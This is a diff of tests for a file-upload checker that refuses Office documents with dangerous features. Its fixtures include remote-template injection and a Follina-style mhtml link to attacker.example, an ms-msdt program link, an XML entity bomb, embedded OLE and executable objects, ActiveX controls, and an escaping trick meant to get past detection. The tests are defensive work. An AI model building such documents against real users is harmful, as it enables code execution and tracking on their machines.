@@ -23,6 +23,7 @@ from lib.uploads import (
     PPTX,
     TEXT,
     WEBP,
+    XLSX,
     CheckedUpload,
     check_upload,
     clean_filename,
@@ -638,6 +639,145 @@ def test_it_refuses_a_word_document_that_is_not_a_whole_archive():
     content = docx_bytes()
     message = refusal(content[: len(content) - 30], "release.docx", allowed=PRESS_RELEASE)
     assert message.startswith("This file looks damaged or incomplete")
+
+
+# --- Office documents that reach out, or carry objects and controls -------------------------------
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def rels(*relationships: str) -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(relationships).encode()
+        + b"</Relationships>"
+    )
+
+
+def relationship(kind: str, target: str, *, external: bool = True, mode: str = "External") -> str:
+    attribute = f' TargetMode="{mode}"' if external else ""
+    return f'<Relationship Id="rId9" Type="{RELS}/{kind}" Target="{target}"{attribute}/>'
+
+
+def test_it_refuses_a_word_document_with_a_remote_template():
+    # The "template injection" trick: Word fetches the template when the document opens.
+    settings_rels = rels(relationship("attachedTemplate", "https://attacker.example/t.dotm"))
+    content = docx_bytes(("word/_rels/settings.xml.rels", settings_rels))
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert "linked to content stored elsewhere (https://attacker.example/t.dotm)" in message
+    assert "Office fetches by itself when the file is opened" in message
+
+
+def test_it_refuses_a_follina_style_object_link():
+    target = "mhtml:https://attacker.example/page.html!x-usc:https://attacker.example/page.html"
+    document_rels = rels(relationship("oleObject", target))
+    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert "embedded object (an OLE object)" in message
+
+
+def test_it_refuses_a_linked_picture_in_a_presentation():
+    slide_rels = rels(relationship("image", "http://attacker.example/pixel.png"))
+    content = office_bytes("ppt/presentation.xml", ("ppt/slides/_rels/slide1.xml.rels", slide_rels))
+    message = refusal(content, "talk.pptx", allowed={PPTX})
+    assert "PowerPoint presentation (PPTX) is linked to content stored elsewhere" in message
+
+
+def test_an_external_link_written_with_a_character_reference_is_still_seen():
+    # TargetMode="&#69;xternal" reads "External" to Office; a byte search would miss it.
+    escaped = rels(
+        relationship("attachedTemplate", "https://attacker.example/t.dotm", mode="&#69;xternal")
+    )
+    content = docx_bytes(("word/_rels/settings.xml.rels", escaped))
+    assert "linked to content stored elsewhere" in refusal(
+        content, "release.docx", allowed=PRESS_RELEASE
+    )
+
+
+def test_it_refuses_a_relationship_part_that_declares_entities():
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b"&b;</Relationships>"
+    )
+    content = docx_bytes(("word/_rels/document.xml.rels", bomb))
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert message.startswith("This file looks damaged or incomplete")
+
+
+def test_it_accepts_ordinary_web_and_email_links():
+    document_rels = rels(
+        relationship("hyperlink", "https://www.example.org/campaign"),
+        relationship("hyperlink", "mailto:press@example.org"),
+        relationship("styles", "styles.xml", external=False),
+    )
+    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
+    assert check(content, "release.docx", allowed=PRESS_RELEASE).content_type == DOCX
+
+
+def test_it_refuses_a_link_that_starts_a_program():
+    document_rels = rels(relationship("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force"))
+    content = docx_bytes(("word/_rels/document.xml.rels", document_rels))
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert "a link that opens something other than a web page or an e-mail (ms-msdt:" in message
+
+
+OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+
+
+def test_it_refuses_an_embedded_ole_object():
+    content = docx_bytes(
+        ("word/embeddings/oleObject1.bin", OLE_FILE),
+        (
+            "word/_rels/document.xml.rels",
+            rels(relationship("oleObject", "embeddings/oleObject1.bin", external=False)),
+        ),
+    )
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert "contains an embedded object (an OLE object)" in message
+
+
+def test_it_refuses_any_other_embedded_file():
+    content = office_bytes("ppt/presentation.xml", ("ppt/embeddings/setup.exe", b"MZ" + bytes(64)))
+    assert "embedded object (“setup.exe”)" in refusal(content, "talk.pptx", allowed={PPTX})
+
+
+def test_it_refuses_activex_controls():
+    content = docx_bytes(
+        ("word/activeX/activeX1.xml", b"<ax:ocx/>"),
+        ("word/activeX/activeX1.bin", OLE_FILE),
+    )
+    message = refusal(content, "release.docx", allowed=PRESS_RELEASE)
+    assert "contains ActiveX controls" in message
+
+
+def test_a_charts_embedded_workbook_is_accepted_when_it_is_clean_and_refused_with_macros():
+    clean_workbook = office_bytes("xl/workbook.xml")
+    chart = office_bytes(
+        "ppt/presentation.xml", ("ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", clean_workbook)
+    )
+    assert check(chart, "talk.pptx", allowed={PPTX}).content_type == PPTX
+    with_macros = office_bytes("xl/workbook.xml", ("xl/vbaProject.bin", OLE_FILE))
+    chart = office_bytes(
+        "ppt/presentation.xml", ("ppt/embeddings/Microsoft_Excel_Worksheet.xlsm", with_macros)
+    )
+    assert "contains macros" in refusal(chart, "talk.pptx", allowed={PPTX})
+    remote = office_bytes(
+        "xl/workbook.xml",
+        ("xl/_rels/workbook.xml.rels", rels(relationship("externalLinkPath", "file://server/x"))),
+    )
+    chart = office_bytes("ppt/presentation.xml", ("ppt/embeddings/data.xlsx", remote))
+    assert "linked to content stored elsewhere" in refusal(chart, "talk.pptx", allowed={PPTX})
+
+
+def test_an_excel_workbook_with_an_external_link_is_refused_for_a_figures_import_too():
+    workbook = office_bytes(
+        "xl/workbook.xml",
+        ("xl/_rels/workbook.xml.rels", rels(relationship("oleObject", "file://server/share"))),
+    )
+    message = refusal(workbook, "figures.xlsx", allowed={XLSX}, what="spreadsheet")
+    assert "Excel spreadsheet (XLSX) contains an embedded object" in message
 
 
 # --- Films ----------------------------------------------------------------------------------------
